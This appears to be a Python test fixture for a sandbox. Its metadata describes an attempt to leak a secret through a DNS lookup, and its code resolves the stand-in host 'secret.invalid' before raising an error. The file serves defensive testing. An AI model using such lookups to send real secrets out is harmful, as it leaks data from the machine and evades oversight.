"""
exercise: fetch_all
tries: Tells a secret to a name server by asking for a name that contains it.
stopped_by: sandbox
verdicts: [unimportable, blocked]
brief: true
unsafe: without a sandbox the question leaves the machine
"""
import socket

socket.getaddrinfo("secret.invalid", 80)
raise RuntimeError("done")
